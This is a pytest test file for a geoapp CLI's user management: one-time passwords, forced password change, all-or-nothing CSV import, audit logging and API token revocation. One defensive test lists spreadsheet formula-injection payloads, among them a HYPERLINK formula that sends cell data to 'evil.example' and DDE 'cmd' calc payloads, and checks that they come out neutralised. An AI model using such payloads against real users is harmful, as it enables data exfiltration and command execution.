"""``geoapp user …`` and the first administrator of ``geoapp demo``: one-time passwords that log
in but must be changed, all-or-nothing imports, every change audited as "cli" (both backends)."""

from __future__ import annotations

import csv
import re
import stat

import pytest
from click.testing import CliRunner
from sqlalchemy import func, select

from geoapp.cli import main
from geoapp.cli.users import _width
from geoapp.store.models import AuditEvent, User
from tests.conftest import add_user, csrf_token, login, make_settings
from tests.services.test_users import V1, V2, add_villages, counts

GOOD_CSV = (
    "\ufeff姓名,电话,角色,村\n张三,13812345678,村采集员,上新村\n李四,13912345678,collector,431021101002\n"
)


@pytest.fixture
def run(db_url):
    """``geoapp …`` in English, with cheap argon2 parameters."""

    def invoke(*args: str, locale: str = "en"):
        env = {
            "GEOAPP_DATABASE_URL": db_url,
            "GEOAPP_LOCALE": locale,
            "GEOAPP_ARGON2_TIME_COST": "1",
            "GEOAPP_ARGON2_MEMORY_KIB": "8192",
        }
        return CliRunner().invoke(main, [str(a) for a in args], env=env)

    return invoke


@pytest.fixture
def web(db_url):
    from geoapp import create_app

    app = create_app(make_settings(db_url))
    yield app.test_client()
    app.extensions["geoapp.db"].dispose()


def one_time_password(output: str) -> str:
    return re.search(r"One-time password: (\S+)", output).group(1)


def user_row(db, username: str) -> User:
    with db.session() as s:
        return s.scalar(select(User).where(User.username == username))


def audit_actions(db, actor: str = "cli") -> list[str]:
    with db.session() as s:
        return list(
            s.scalars(select(AuditEvent.action).where(AuditEvent.actor == actor).order_by(AuditEvent.id))
        )


# -- add, and the first login ---------------------------------------------------------------------


def test_there_is_no_default_account(run, db, web):
    result = run("user", "list")
    assert result.exit_code == 0 and "There are no users yet" in result.output
    assert login(web, "admin", "admin").status_code == 401


def test_the_one_time_password_logs_in_but_must_be_changed_first(run, db, web):
    result = run("user", "add", "--role", "admin", "--name", "站长", "chief")
    assert result.exit_code == 0, result.output
    assert "Created chief (admin)" in result.output
    password = one_time_password(result.output)
    assert len(password) >= 12 and password not in (audit_changes := _changes(db))
    assert "chief" in audit_changes and audit_actions(db) == ["user.create"]

    r = login(web, "chief", password)
    assert r.status_code == 302 and r.location.endswith("/account/password")
    assert web.get("/").location.endswith("/account/password")
    api = web.get("/api/villages.geojson")
    assert api.status_code == 403 and api.json["error"] == "Forbidden"

    new = "Own-password-2016"
    r = web.post(
        "/account/password",
        data={"old_password": password, "new_password": new, "confirm_password": new,
              "csrf_token": csrf_token(web)},
    )  # fmt: skip
    assert r.status_code == 302
    assert web.get("/api/villages.geojson").status_code == 200
    assert not user_row(db, "chief").must_change_password


def test_add_a_collector_with_a_village_by_code_or_name(run, db):
    villages = add_villages(db)
    assert run("user", "add", "--role", "collector", "--village", V1[1], "c_one").exit_code == 0
    assert (
        run(
            "user", "add", "--role", "COLLECTOR", "--village", V2[0], "--phone", "13800001111", "c_two"
        ).exit_code
        == 0
    )
    assert user_row(db, "c_one").village_id == villages[V1[0]]
    assert (
        user_row(db, "c_two").village_id == villages[V2[0]] and user_row(db, "c_two").phone == "13800001111"
    )


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("--role", "collector", "--village", "没有村", "c_one"), "village: there is no village 没有村"),
        (("--role", "collector", "c_one"), "village: a village collector needs a village"),
        (("--role", "reporter", "--unit", "99999", "r_one"), "unit: there is no unit 99999"),
        (("--role", "officer", "x"), "must be 3 to 60"),
        (
            ("--role", "reporter", "--unit", str(2**63 + 1), "r_one"),
            "unit: there is no unit 9223372036854775809",
        ),
        (
            ("--role", "collector", "--village", "上新\x00村", "c_one"),
            "village: there is no village 上新\ufffd村",
        ),
        (("--role", "collector", "--village", "9" * 40, "c_one"), "village: there is no village 999"),
        (("--role", "officer", "--name", "张\x1b[31m三", "o_one"), "control characters"),
        (("--role", "officer", "--name", "张" * 101, "o_one"), "longer than 100 characters"),
        (("--role", "officer", "--phone", "=1+1", "o_one"), "not a phone number"),
        (("--role", "officer", "a\x00b"), "must be 3 to 60"),
    ],
)
def test_add_refuses_with_a_message_and_creates_nothing(run, db, args, message):
    add_villages(db)
    before = counts(db)
    result = run("user", "add", *args)
    assert result.exit_code == 1 and message.lower() in result.stderr.lower()  # fields may have labels
    assert counts(db) == before


def test_add_refuses_a_bad_role_and_a_taken_name(run, db):
    result = run("user", "add", "--role", "boss", "someone")
    assert result.exit_code == 2 and "boss" in result.output
    assert run("user", "add", "--role", "officer", "officer1").exit_code == 0
    result = run("user", "add", "--role", "leader", "OFFICER1")
    assert result.exit_code == 1 and "taken" in result.stderr


# -- list, disable, enable, set-role, reset-password ---------------------------------------------


def test_list_shows_every_account(run, db):
    add_villages(db)
    run("user", "add", "--role", "collector", "--village", V1[0], "--name", "张三", "13812345678")
    run("user", "add", "--role", "officer", "officer1")
    run("user", "disable", "officer1")
    result = run("user", "list")
    assert result.exit_code == 0
    header, _rule, *lines = result.output.splitlines()
    assert header.split() == ["User", "name", "Name", "Role", "Village", "Disabled", "Last", "login"]
    assert lines[0].split() == ["13812345678", "张三", "collector", "上新村", "no", "—"]
    assert lines[1].split() == ["officer1", "—", "officer", "—", "yes", "—"]
    # CJK characters take two columns: the columns stay aligned on a terminal.
    assert _width(header[: header.index("Role")]) == _width(lines[0][: lines[0].index("collector")])


def test_disable_ends_the_sessions_at_once_and_enable_lets_them_in_again(run, db, web):
    add_user(db, "officer1", "officer")
    assert login(web, "officer1").status_code == 302
    assert web.get("/").status_code == 200
    result = run("user", "disable", "officer1")
    assert result.exit_code == 0 and "Disabled officer1" in result.output
    r = web.get("/")
    assert r.status_code == 302 and "/login" in r.location
    assert login(web, "officer1").status_code == 401
    assert run("user", "enable", "officer1").exit_code == 0
    assert login(web, "officer1").status_code == 302
    assert audit_actions(db) == ["user.disable", "user.enable"]


def test_set_role(run, db, web):
    villages = add_villages(db)
    add_user(db, "officer1", "officer")
    login(web, "officer1")
    result = run("user", "set-role", "officer1", "collector", "--village", V2[0])
    assert result.exit_code == 0 and "officer1 is now collector" in result.output
    row = user_row(db, "officer1")
    assert (row.role, row.village_id) == ("collector", villages[V2[0]])
    assert web.get("/").status_code == 302  # the new role applies at the next login
    result = run("user", "set-role", "officer1", "reporter")
    assert result.exit_code == 1 and "a unit reporter needs a unit" in result.stderr
    assert run("user", "set-role", "nobody", "leader").exit_code == 1
    for name in ("office\x00r1", "x" * 5000):  # no lookup fails in the database driver
        result = run("user", "reset-password", name)
        assert result.exit_code == 1 and "There is no user" in result.stderr, result.output
    assert audit_actions(db) == ["user.set_role"]


def test_reset_password_prints_a_new_one_time_password(run, db, web):
    add_user(db, "officer1", "officer")
    result = run("user", "reset-password", "officer1")
    assert result.exit_code == 0
    password = re.search(r"New one-time password for officer1: (\S+)", result.output).group(1)
    assert login(web, "officer1").status_code == 401  # the old password is gone
    r = login(web, "officer1", password)
    assert r.status_code == 302 and r.location.endswith("/account/password")
    assert password not in _changes(db)
    assert audit_actions(db) == ["user.reset_password"]


def test_reset_password_and_disable_revoke_the_accounts_api_tokens(run, db):
    from geoapp.services.accounts.sessions import create_token, resolve_token

    add_user(db, "officer1", "officer")
    add_user(db, "officer2", "officer")

    def new_token(username: str) -> str:
        with db.write() as s:
            return create_token(s, s.scalar(select(User).where(User.username == username)), "QGIS")[1]

    def works(raw: str) -> bool:
        with db.session() as s:
            return resolve_token(s, raw) is not None

    first, second, other = new_token("officer1"), new_token("officer1"), new_token("officer2")
    result = run("user", "reset-password", "officer1")
    assert result.exit_code == 0 and "API tokens are revoked" in result.output
    assert not works(first) and not works(second) and works(other)
    later = new_token("officer1")
    assert run("user", "disable", "officer1").exit_code == 0
    assert run("user", "enable", "officer1").exit_code == 0
    assert not works(later)  # enabling the account again does not revive its tokens
    with db.session() as s:
        revoked = s.scalars(
            select(AuditEvent.changes).where(AuditEvent.action == "token.revoke", AuditEvent.actor == "cli")
        )
        reasons = sorted(c.split('"reason":"')[1].split('"')[0] for c in revoked)
    assert reasons == ["disabled", "password_reset", "password_reset"]


def test_the_last_administrator_cannot_be_disabled(run, db):
    run("user", "add", "--role", "admin", "admin")
    result = run("user", "disable", "admin")
    assert result.exit_code == 1 and "last enabled administrator" in result.stderr


# -- import ----------------------------------------------------------------------------------------


def test_import_prints_user_names_and_one_time_passwords(run, db, tmp_path):
    add_villages(db)
    path = tmp_path / "采集员.csv"
    path.write_text(GOOD_CSV, encoding="utf-8")
    result = run("user", "import", path)
    assert result.exit_code == 0, result.output
    assert "Created 2 accounts from 采集员.csv" in result.output
    lines = {line.split()[0]: line.split() for line in result.output.splitlines() if line[:1].isdigit()}
    assert set(lines) == {"13812345678", "13912345678"}
    assert lines["13812345678"][1:3] == ["张三", "collector"]
    assert audit_actions(db) == ["user.create", "user.create", "user.import"]
    changes = _changes(db)
    assert all(line[3] not in changes for line in lines.values())


def test_import_writes_the_passwords_to_a_private_file(run, db, tmp_path, web):
    add_villages(db)
    path = tmp_path / "users.csv"
    path.write_text(GOOD_CSV, encoding="utf-8")
    out = tmp_path / "passwords.csv"
    result = run("user", "import", path, "--out", out)
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["username"] for r in rows] == ["13812345678", "13912345678"]
    assert rows[0]["one_time_password"] not in result.output
    assert login(web, "13812345678", rows[0]["one_time_password"]).location.endswith("/account/password")
    # An existing file is never overwritten, and nothing is created then.
    before = counts(db)
    result = run("user", "import", path, "--out", out)
    assert result.exit_code == 1 and "already exists" in result.stderr
    assert counts(db) == before


FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                 "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]  # fmt: skip


def test_the_password_file_never_holds_a_formula(run, db, tmp_path):
    """Names written into the passwords CSV (opened in Excel) start no formula."""
    path = tmp_path / "users.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["姓名", "电话", "角色", "村"])
        for i, name in enumerate(FORMULA_NAMES):
            writer.writerow([name, f"1381234{i:04d}", "领导", ""])
    out = tmp_path / "passwords.csv"
    result = run("user", "import", path, "--out", out)
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8-sig", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    names = {c for c in cells if c.startswith("'")}
    assert names == {"'" + name.strip() for name in FORMULA_NAMES}  # shown as typed, never run


def test_a_refused_import_leaves_no_password_file(run, db, tmp_path):
    path = tmp_path / "users.csv"
    path.write_text("姓名,电话,角色,村\n张三,123,collector,上新村\n", encoding="utf-8")
    out = tmp_path / "passwords.csv"
    assert run("user", "import", path, "--out", out).exit_code == 1
    assert not out.exists()


@pytest.mark.parametrize(
    ("rows", "message"),
    [
        (
            "张三,13812345678,collector,上新村\n李四,13812345678,collector,上新村\n",
            "line 3: phone 13812345678 appears twice",
        ),
        ("张三,13800000000,collector,上新村\n", "line 2: phone 13800000000 already has an account"),
        (
            "张三,13812345678,collector,上新村\n李四,13912345678,collector,没有村\n",
            "line 3: village: there is no village 没有村",
        ),
        ("张三,13812345678,boss,上新村\n", "line 2: role must be one of"),
        ("张三,1381234,collector,上新村\n", "line 2: phone 1381234 is not a mobile number"),
    ],
    ids=["duplicate-in-file", "duplicate-account", "unknown-village", "bad-role", "bad-phone"],
)
def test_a_bad_file_changes_nothing(run, db, tmp_path, rows, message):
    add_villages(db)
    add_user(db, "13800000000", "officer")
    path = tmp_path / "坏.csv"
    path.write_text("姓名,电话,角色,村\n" + rows, encoding="utf-8")
    before = counts(db)
    result = run("user", "import", path)
    assert result.exit_code == 1
    assert "坏.csv" in result.stderr and "Nothing was created" in result.stderr
    assert message.lower() in result.stderr.lower()  # fields may be shown with their labels
    assert counts(db) == before


# -- geoapp demo: the first administrator ---------------------------------------------------------


def test_demo_on_an_existing_town_creates_an_administrator_only_when_there_is_no_account(demo_url, tmp_path):
    env = {"GEOAPP_DATABASE_URL": demo_url, "GEOAPP_LOCALE": "en", "GEOAPP_ARGON2_TIME_COST": "1",
           "GEOAPP_ARGON2_MEMORY_KIB": "8192", "GEOAPP_GIS_DATA": str(tmp_path)}  # fmt: skip
    first = CliRunner().invoke(main, ["demo", "--if-empty"], env=env)
    assert first.exit_code == 0, first.output
    assert "No account existed, so an administrator was created" in first.output
    assert "User name: admin" in first.output
    password = one_time_password(first.output)

    again = CliRunner().invoke(main, ["demo", "--if-empty"], env=env)
    assert again.exit_code == 0 and password not in again.output
    assert "One-time password" not in again.output
    assert "geoapp user reset-password admin" in again.output

    from geoapp.store.db import Database

    database = Database(demo_url)
    with database.session() as s:
        assert s.scalar(select(func.count(User.id))) == 1
    database.dispose()


def _changes(db) -> str:
    with db.session() as s:
        return " ".join(c for c in s.scalars(select(AuditEvent.changes)) if c)


def test_demo_on_a_fresh_database_prints_the_administrators_one_time_password(run, db, tmp_path, monkeypatch):
    monkeypatch.setenv("GEOAPP_GIS_DATA", str(tmp_path))
    from tests.conftest import TASKS_CSV

    result = run("demo", "--state", "blank", "--tasks", TASKS_CSV)
    assert result.exit_code == 0, result.output
    assert "No account existed, so an administrator was created" in result.output
    password = one_time_password(result.output)
    admin = user_row(db, "admin")
    assert admin.role == "admin" and admin.must_change_password
    assert audit_actions(db) == ["user.create"] and password not in _changes(db)
